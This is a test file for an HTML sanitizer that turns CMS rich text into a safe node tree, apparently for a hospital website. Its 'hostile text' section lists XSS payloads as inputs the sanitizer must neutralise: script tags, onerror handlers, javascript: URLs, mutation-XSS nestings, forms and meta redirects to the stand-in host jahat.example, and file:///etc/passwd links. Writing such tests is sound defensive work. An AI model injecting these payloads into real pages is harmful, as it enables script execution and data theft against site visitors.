import { richTextTags } from '@hospital/ui'
import type { RichTextNode } from '@hospital/ui'
import { describe, expect, test } from 'vitest'
import { processorTime } from '../../testing/processor-time.ts'
import { short, tree } from './text-tree.ts'

const tagsIn = (nodes: readonly RichTextNode[]): readonly string[] =>
  nodes.flatMap((node) => (node.type === 'element' ? [node.tag, ...tagsIn(node.children ?? [])] : []))

const depthOf = (nodes: readonly RichTextNode[]): number =>
  nodes.reduce((depth, node) => Math.max(depth, node.type === 'element' ? 1 + depthOf(node.children ?? []) : 0), 0)

describe('formatted text', () => {
  test.each([
    ['words are a paragraph', 'halo', 'p(halo)'],
    ['a blank line ends a paragraph, a new line is one', 'satu\ndua\n\ntiga', 'p(satubr()dua)p(tiga)'],
    ['words between blocks are paragraphs', 'a<p>b</p>c', 'p(a)p(b)p(c)'],
    [
      'old names of elements become new ones',
      '<p><b>a</b> <i>b</i> <strike>c</strike> <font color=red>d</font></p>',
      'p(strong(a) em(b) s(c) d)',
    ],
    ['boxes are paragraphs', '<div>a</div><div><div>b</div><p>c</p></div>', 'p(a)p(b)p(c)'],
    ['nothing lies between blocks', '<p>a</p>\n\n  <p>b</p>\n', 'p(a)p(b)'],
    [
      'empty elements are no noise',
      '<p>&nbsp;</p><p><br></p><p> <b>&nbsp;</b></p><h2></h2><ul><li></li></ul><p>a</p>',
      'p(a)',
    ],
    ['hard spaces are spaces', '<p>a&nbsp;&nbsp; b</p>', 'p(a b)'],
    ['line breaks at the ends go, two in a row stay', '<p><br>a<br><br><br><br>b<br></p>', 'p(abr()br()b)'],
    ['a mark around blocks is put into each', '<b><p>a</p><ul><li>b</li></ul></b>', 'p(strong(a))ul(li(strong(b)))'],
    ['a link around a heading is put into it', '<a href="/paket"><h2>a</h2></a>', 'h2(a{href=/paket}(a))'],
    ['a list in a list stays in its item', '<ul><li>a<ul><li>b</li></ul></li></ul>', 'ul(li(aul(li(b))))'],
    [
      'what lies in a list without being an item becomes one',
      '<ul>a<ul><li>b</li></ul></ul>',
      'ul(li(a)li(ul(li(b))))',
    ],
    ['a list goes on counting', '<ol start="3"><li>a</li></ol>', 'ol{start=3}(li(a))'],
    ['code keeps its lines', '<pre>a\n  b</pre>', 'pre(a\n  b)'],
    ['a quotation holds paragraphs', '<blockquote>a<p>b</p></blockquote>', 'blockquote(p(a)p(b))'],
    [
      'a table keeps its heads and spans',
      '<table style="width:9999px"><caption>k</caption><tr><th>a</th></tr><tfoot><tr><td colspan="2">b</td></tr></tfoot></table>',
      'table(caption(k)tbody(tr(th(a))tr(td{colSpan=2}(b))))',
    ],
    [
      'a row of heads belongs to columns',
      '<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
      'table(thead(tr(th{scope=col}(a)))tbody(tr(td(b))))',
    ],
    ['cells without a table are words', '<tr><td>a</td></tr>', 'p(a)'],
    [
      'a foreign word says its language',
      '<p><span lang="en">check-up</span> <span lang="x y">b</span></p>',
      'p(span{lang=en}(check-up) b)',
    ],
  ])('%s', (_name, html, expected) => {
    expect(short(tree(html))).toBe(expected)
  })

  test.each([
    ['<h1>a</h1><h2>b</h2><h5>c</h5>', 2, 'h2(a)h3(b)h4(c)'],
    ['<h3>a</h3><h3>b</h3><h4>c</h4>', 2, 'h2(a)h2(b)h3(c)'],
    ['<h2>a</h2><h4>b</h4><h3>c</h3>', 2, 'h2(a)h3(b)h3(c)'],
    ['<h4>a</h4><h2>b</h2>', 2, 'h2(a)h2(b)'],
    ['<h2>a</h2><h3>b</h3><h4>c</h4><h5>d</h5>', 3, 'h3(a)h4(b)h4(c)h4(d)'],
  ] as const)('headings %s below level %i keep the outline whole', (html, top, expected) => {
    expect(short(tree(html, { top }))).toBe(expected)
  })

  test('that is not in the language of the page says so', () => {
    expect(short(tree('<p>a</p><p>b</p>', { locale: 'en' }))).toBe('p{lang=id}(a)p{lang=id}(b)')
  })
})

describe('an address in a text', () => {
  test.each([
    ['/paket', 'id', '/paket'],
    ['/paket?q=a#b', 'en', '/en/paket?q=a#b'],
    ['/en/paket', 'en', '/en/paket'],
    ['/uploads/a.pdf', 'en', 'https://cms.example/uploads/a.pdf'],
    ['https://lain.example/a', 'id', 'https://lain.example/a'],
    ['tel:+62267', 'id', 'tel:+62267'],
    ['mailto:a@b.example', 'id', 'mailto:a@b.example'],
  ] as const)('%s leads in %s to %s', (address, locale, target) => {
    expect(short(tree(`<a href="${address}">a</a>`, { lang: locale, locale }))).toBe(`p(a{href=${target}}(a))`)
  })

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\nscript:alert(1)',
    ' &#x6A;avascript:alert(1)',
    '&#1;javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    '//jahat.example',
    '/\\jahat.example',
    '\\\\jahat.example',
    'blob:https://a/b',
    'relatif',
    '#bagian',
    '',
  ])('%o leads nowhere, and its words stay', (address) => {
    expect(short(tree(`<a href="${address}">kata</a>`))).toBe('p(kata)')
  })

  test('of a link in a link is that of the outer one', () => {
    expect(
      tagsIn(tree('<a href="/a"><table><tr><td><a href="/b">x</a></td></tr></table></a>')).filter((tag) => tag === 'a'),
    ).toHaveLength(1)
  })
})

describe('a picture in a text', () => {
  test.each([
    [
      'of the CMS is shown with its size',
      '<img src="/uploads/a.webp" width="800px" height="450" alt="Denah">',
      'p(img{src=https://cms.example/uploads/a.webp alt=Denah width=800 height=450}())',
    ],
    [
      'of a known origin is shown',
      '<img src="https://cdn.example/a.jpg" width=8 height=4>',
      'p(img{src=https://cdn.example/a.jpg alt= width=8 height=4}())',
    ],
    [
      'without a size is linked to',
      '<img src="/uploads/a.webp" alt="Denah">',
      'p(a{href=https://cms.example/uploads/a.webp}(Denah))',
    ],
    [
      'of an unknown origin is linked to',
      '<img src="https://lain.example/a.png" width=8 height=4>',
      'p(a{href=https://lain.example/a.png}(Lihat gambar))',
    ],
    ['that counts readers is gone', '<p>a</p><img src="https://lain.example/a.gif" width=1 height=1>', 'p(a)'],
    ['with a broken address is gone', '<p>a</p><img src="x" onerror="alert(1)">', 'p(a)'],
    ['written into the text is gone', `<img src="data:image/png;base64,${'A'.repeat(500_000)}"><p>a</p>`, 'p(a)'],
    [
      'keeps its caption',
      '<figure class="image"><img src="/uploads/a.webp" width=8 height=4><figcaption>Teras</figcaption></figure>',
      'figure(img{src=https://cms.example/uploads/a.webp alt= width=8 height=4}()figcaption(Teras))',
    ],
    ['that is gone leaves its caption', '<figure><img src="x"><figcaption>Teras</figcaption></figure>', 'p(Teras)'],
  ])('%s', (_name, html, expected) => {
    expect(short(tree(html))).toBe(expected)
  })
})

test.each([
  ['<p dir="rtl" lang="ar">سلام</p>', 'p{lang=ar dir=rtl}(سلام)'],
  ['<div dir="rtl"><p>سلام</p><p dir="ltr">a</p></div>', 'p{dir=rtl}(سلام)p{dir=ltr}(a)'],
  ['<ul dir="rtl"><li lang="ar">سلام</li></ul>', 'ul{dir=rtl}(li{lang=ar}(سلام))'],
  ['<table><tr><td dir="rtl">سلام</td></tr></table>', 'table(tbody(tr(td{dir=rtl}(سلام))))'],
  ['<p>a <span dir="rtl">سلام</span> <bdi>b</bdi></p>', 'p(a span{dir=rtl}(سلام) b)'],
  ['<p dir="sideways">a</p>', 'p(a)'],
])('the direction and language of %s are shown: %s', (html, expected) => {
  expect(short(tree(html))).toBe(expected)
})

test('a text of the other language is in that, apart from what says its own', () => {
  expect(short(tree('<p>a</p><p lang="ar">b</p>', { locale: 'en' }))).toBe('p{lang=id}(a)p{lang=ar}(b)')
})

describe('a hostile text', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//jahat.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<style>body{display:none}</style>',
    '<object data="x"></object><embed src="x">',
    '<form action=//jahat.example><input name=kartu><button>kirim</button></form>',
    '<template><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<link rel=stylesheet href=//jahat.example>',
    '<meta http-equiv=refresh content="0;url=//jahat.example">',
    '<base href="//jahat.example">',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<!-- <p>a</p> -->',
    '<textarea><script>alert(1)</script></textarea>',
    '<video src=x onerror=alert(1)></video>',
    '<xmp><script>alert(1)</script></xmp>',
    '<body onload=alert(1)>',
    '<frameset onload=alert(1)>',
    '<isindex action=javascript:alert(1)>',
    '<![CDATA[<script>alert(1)</script>]]>',
  ])('%s leaves nothing that runs, loads or asks', { tags: ['articles.safe'] }, (html) => {
    const nodes = tree(html)
    expect(tagsIn(nodes).filter((tag) => !['p', 'table', 'tbody', 'tr', 'td'].includes(tag))).toEqual([])
    expect(JSON.stringify(nodes)).not.toMatch(/onerror|onload|javascript:|jahat/)
  })

  test.each([
    '<p onclick="alert(1)" style="position:fixed" class="x" id="main" name="body" data-x="1" contenteditable>a</p>',
    '<p title=x/onmouseover=alert(1)>a</p>',
    '<p slot=x is=y part=z tabindex=1 accesskey=a autofocus>a</p>',
    '<p><a ping="//jahat.example" target="_top" download>a</a></p>',
  ])('%s keeps none of its attributes', (html) => {
    expect(short(tree(html))).toBe('p(a)')
  })

  test('turns no direction and hides no character', () => {
    expect(short(tree('<p>a\u202Etxt.exe\u2066\u200B\u0000\uFEFF</p>'))).toBe('p(atxt.exe)')
  })

  test.each([
    '<div><p>a</div></p></b><i>',
    '<table><p>a</table>',
    '<a href=x><b><div></a></b>',
    '<ul><table><li>',
    '<p <p <p',
    '</',
    '<',
    '&#xFFFFFFF;',
    '<p>a<![',
    '<table><td><table><td><form>',
    '<select><option><p>x',
    '<li><li><dd><dt><p><h1><h2>',
    '<button><p>a</p></button><p><button><div>b</div></button></p>',
    '\uD800',
    '<a><table><a><td><a>x',
  ])('%o is broken, and gives known elements', (html) => {
    tagsIn(tree(html)).forEach((tag) => expect(richTextTags).toContain(tag))
  })

  test.each([
    ['divisions', '<div>'.repeat(200_000)],
    ['bold', '<b>'.repeat(300_000)],
    ['bold paragraphs', '<b><p>'.repeat(150_000)],
    ['tables', '<table><tr><td>'.repeat(60_000)],
    ['lists', '<ul><li>'.repeat(120_000)],
    ['quotations', '<blockquote>'.repeat(80_000)],
    ['spans', '<span lang=en>'.repeat(60_000)],
    ['entities', '&'.repeat(1_000_000)],
    ['angle brackets', '<'.repeat(1_000_000)],
  ])('of a megabyte of nested %s is no work and not deep', (_name, html) => {
    let nodes: ReturnType<typeof tree> = []
    expect(processorTime(() => (nodes = tree(`${html}kata`)))).toBeLessThan(5000)
    expect(depthOf(nodes)).toBeLessThan(200)
  })

  test('is still read where it lies deep', () => {
    expect(short(tree(`${'<div>'.repeat(5000)}<script>x</script>kata`))).toBe('p(kata)')
  })
})

test('a text of a megabyte ends where a paragraph does', () => {
  const paragraph = `<p>${'kata '.repeat(100)}</p>`
  const nodes = tree(paragraph.repeat(2500))
  expect(JSON.stringify(nodes).length).toBeLessThan(300_000)
  expect(short(nodes.slice(-1))).toBe(short(tree(paragraph)))
})

test.each(['', ' ', '<p></p>', '&nbsp;'])('%o is no text', (html) => {
  expect(tree(html)).toEqual([])
})
